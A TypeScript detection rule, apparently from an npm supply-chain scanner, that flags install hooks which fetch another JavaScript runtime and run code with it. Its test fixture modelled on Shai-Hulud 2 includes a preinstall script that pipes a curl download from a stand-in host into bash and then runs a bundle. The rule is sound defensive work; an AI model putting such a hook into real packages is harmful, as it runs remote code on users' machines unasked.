import type { Rule } from '../rule';

export const hookDownloadedRuntime: Rule = {
  code: 'hook-downloaded-runtime',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary: 'An install hook fetches another JavaScript runtime and runs code with it.',
  message: 'fetches another runtime and runs it',
  pattern: { where: 'hooks', any: ['foreign-runtime'], near: ['network', 'package-manager'] },
  samples: {
    hits: [
      {
        what: 'another runtime fetched (Shai-Hulud 2)',
        format: 'tarball',
        manifest: { scripts: { preinstall: 'node setup_bun.js' } },
        files: {
          'setup_bun.js':
            'const { execSync } = require("child_process"); execSync("curl -fsSL https://bun.invalid/install | bash"); execSync("bun run bundle.js")',
          'bundle.js': 'x()',
        },
        verdict: 'malicious',
        speaks: ['hook-remote-code'],
      },
    ],
    ignores: [
      {
        what: 'another runtime expected',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'bun run postinstall.ts' } },
        files: { 'postinstall.ts': 'console.log("built" as string)' },
        why: 'The runtime has to be there already; nothing is fetched.',
        verdict: 'suspicious',
        speaks: ['hook-foreign-runtime'],
      },
    ],
  },
};
